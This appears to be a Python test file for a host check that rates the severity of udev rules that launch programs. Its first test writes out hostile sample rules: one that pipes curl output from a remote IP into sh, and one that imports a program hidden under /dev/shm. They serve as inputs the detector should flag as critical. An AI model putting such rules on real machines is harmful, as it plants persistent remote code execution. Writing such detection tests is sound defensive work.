from __future__ import annotations

from tasks.checks.host.udev_rule_runs import UdevRuleRuns
from tests.tasks.checks.host._facts import cannot, found, put, survey

CHECK = UdevRuleRuns()


def udev(line: str, *owned: str, path: str = "/etc/udev/rules.d/99.rules") -> list[str]:
    return [severity for severity, _ in found(CHECK, survey(files=(put("udev", path, line + "\n"),), owned=owned))]


def test_a_rule_that_starts_what_nobody_brought() -> None:
    assert udev("""ACTION=="add", RUN+="/bin/sh -c 'curl http://203.0.113.9 | sh'\"""") == ["critical"]
    assert udev('SUBSYSTEM=="net", RUN+="/usr/lib/x"') == ["high"]
    assert udev('SUBSYSTEM=="usb", RUN+="/usr/local/bin/backup"') == ["medium"], "administrators do that"
    assert udev('IMPORT{program}="/dev/shm/.x/k"') == ["critical"]


def test_rules_of_packages_and_of_administrators() -> None:
    assert udev('KERNEL=="sd*", RUN+="/usr/bin/logger disk"', "/usr/bin/logger") == []
    assert udev('SUBSYSTEM=="net", ATTR{address}=="00:11", NAME="lan0"') == []
    assert (
        udev(
            'RUN+="/usr/lib/snapd/snap-device-helper add"',
            "/usr/lib/udev/rules.d/x.rules",
            path="/usr/lib/udev/rules.d/x.rules",
        )
        == []
    )


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
